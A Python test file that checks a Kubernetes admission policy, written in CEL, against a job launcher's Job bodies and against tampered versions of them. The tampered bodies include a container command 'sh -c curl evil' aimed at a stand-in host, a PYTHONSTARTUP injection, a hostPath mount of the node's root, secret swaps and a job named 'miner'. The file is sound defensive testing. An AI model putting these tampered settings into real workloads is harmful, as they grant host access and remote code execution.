"""The launcher's admission policy evaluated as CEL (infra/admission.py), on the Job bodies the launcher posts and on
bodies changed the way a stolen launcher token would change them.

Needs cel-python (`celpy`, PyPI "cel-python"), which the project's requirements do not carry yet: skipped without
it. It evaluates standard CEL, as the API server's cel-go does for these expressions (they use no Kubernetes
extension library); the API server itself is not run.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

from infra import contract, schedule
from infra.render import Rendered

celpy = pytest.importorskip("celpy")

POLICY = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"
SCORED = {"schedule": "0 3 * * *", "datasetUri": "gs://acme-fraud/exports", "outputUri": "gs://acme-results/out"}


def _run(expression: str, activation: dict[str, Any]) -> Any:
    env = celpy.Environment()
    return env.program(env.compile(expression)).evaluate(activation)


def verdict(policy: dict[str, Any], job: dict[str, Any], user: str) -> str | list[str]:
    """"not matched", "admitted", or the messages of the failed validations."""
    activation = {"object": celpy.json_to_cel(job), "request": celpy.json_to_cel({"userInfo": {"username": user}})}
    if not all(_run(c["expression"], activation) for c in policy["matchConditions"]):
        return "not matched"
    (account,) = policy["variables"]
    activation["variables"] = celpy.json_to_cel({"account": str(_run(account["expression"], activation))})
    failed = [v["message"] for v in policy["validations"] if not _run(v["expression"], activation)]
    return failed or "admitted"


def defaulted(job: dict[str, Any]) -> dict[str, Any]:
    """``job`` as the API server hands it to admission policies: defaulted first (kubernetes pkg/apis/core/v1/
    defaults.go: a fieldRef's apiVersion, a container's imagePullPolicy and terminationMessagePath, a volume's
    nothing for a claim)."""
    job = copy.deepcopy(job)
    pod = job["spec"]["template"]["spec"]
    for c in pod["containers"] + pod.get("initContainers", []):
        c.update(imagePullPolicy="IfNotPresent", terminationMessagePath="/dev/termination-log")
        for e in c.get("env", []):
            if "fieldRef" in e.get("valueFrom", {}):
                e["valueFrom"]["fieldRef"]["apiVersion"] = "v1"
    pod.update(dnsPolicy="ClusterFirst", schedulerName="default-scheduler")
    return job


def changed(job: dict[str, Any], edit: Any) -> dict[str, Any]:
    job = copy.deepcopy(job)
    edit(job, job["spec"]["template"]["spec"])
    return job


def _rendered(rendered: Callable[..., Rendered]) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any], str]:
    """The policy, the two bodies the launcher posts (as admission sees them) and the launcher's user name."""
    r = rendered("dev", **SCORED)
    policy = r.one(POLICY).inputs["spec"]
    data = r.one("kubernetes:core/v1:ConfigMap", "schedule-job").inputs["data"]
    training, scoring = json.loads(data[contract.LAUNCH_KEY]), json.loads(data[contract.SCORING_LAUNCH_KEY])
    launcher = f"system:serviceaccount:{r.config.namespace}:{contract.APP}-{contract.LAUNCHER}"
    return policy, defaulted(training), defaulted(scoring), launcher


def test_the_policy_admits_the_launchers_two_jobs_and_nothing_else_from_it(rendered: Callable[..., Rendered]) -> None:
    policy, training, scoring, launcher = _rendered(rendered)
    assert verdict(policy, training, launcher) == verdict(policy, scoring, launcher) == "admitted"
    loader = launcher.replace(contract.LAUNCHER, contract.LOADER)
    assert verdict(policy, {**training, "metadata": {"name": "x"}}, loader) == "not matched"

    name, image, account, body = (v["message"] for v in policy["validations"])
    cases = [
        (changed(training, lambda j, p: j["metadata"].update(name="miner")), [name, account, body]),
        (changed(training, lambda j, p: p["containers"][0].update(image="busybox")), [image]),
        (changed(scoring, lambda j, p: p["initContainers"][0].update(image="busybox")), [image]),
        (changed(training, lambda j, p: p.update(serviceAccountName=f"{contract.APP}-{contract.LOADER}")), [account]),
        (changed(training, lambda j, p: p.pop("serviceAccountName")), [account]),
        (changed(training, lambda j, p: p.update(serviceAccount=f"{contract.APP}-{contract.LOADER}")), [account]),
    ]
    for job, messages in cases:
        assert verdict(policy, job, launcher) == messages
    assert schedule.SCHEDULED_JOB in name and schedule.SCHEDULED_SCORING_JOB in name


def _swap(job: dict[str, Any], name: str) -> dict[str, Any]:
    return changed(job, lambda j, p: j["metadata"].update(name=name))


def _env(value: str) -> Any:
    return lambda j, p: p["containers"][0]["env"].append({"name": "PYTHONSTARTUP", "value": value})


def test_each_scheduled_name_admits_only_its_own_body(rendered: Callable[..., Rendered]) -> None:
    """A stolen launcher token posts the stack's image as the stack's account under a name it may use, but with
    another body: the scorer's under the trainer's name (or the reverse), other args, a command, another or an
    extra variable, another mount or volume, more GPUs. Each is refused by the body check alone (the names,
    image and account checks pass: both bodies run the workers' account), so removing that check fails this."""
    policy, training, scoring, launcher = _rendered(rendered)
    body = policy["validations"][3]["message"]
    worker = lambda edit: changed(training, edit)  # noqa: E731
    first = "containers"
    cases = {
        "scoring body, training name": _swap(scoring, schedule.SCHEDULED_JOB),
        "training body, scoring name": _swap(training, schedule.SCHEDULED_SCORING_JOB),
        "extra args": worker(lambda j, p: p[first][0]["args"].append("--runs=all")),
        "other args": worker(lambda j, p: p[first][0].update(args=["python", "-c", "print(1)"])),
        "a command": worker(lambda j, p: p[first][0].update(command=["sh", "-c", "curl evil"])),
        "an extra variable": worker(_env("/tmp/x.py")),
        "another value": worker(lambda j, p: p[first][0]["env"][1].update(value="redis://elsewhere:6379")),
        "another secret": worker(lambda j, p: p[first][0]["env"][2]["valueFrom"]["secretKeyRef"].update(name="x")),
        "envFrom": worker(lambda j, p: p[first][0].update(envFrom=[{"secretRef": {"name": "other"}}])),
        "a hostPath": worker(lambda j, p: p["volumes"].append({"name": "host", "hostPath": {"path": "/"}})),
        "another claim": worker(lambda j, p: p["volumes"][0]["persistentVolumeClaim"].update(claimName="other")),
        "a mount moved": worker(lambda j, p: p[first][0]["volumeMounts"][0].update(mountPath="/tmp")),
        "more GPUs": worker(lambda j, p: p[first][0]["resources"]["limits"].update({"nvidia.com/gpu": "8"})),
        "a second container": worker(lambda j, p: p[first].append({**p[first][0], "name": "side"})),
        "a scorer dropped": changed(scoring, lambda j, p: p[first].pop()),
        "the scorer's init args": changed(scoring, lambda j, p: p["initContainers"][0].update(args=["sleep"])),
    }
    verdicts = {case: verdict(policy, job, launcher) for case, job in cases.items()}
    assert verdicts == dict.fromkeys(cases, [body])
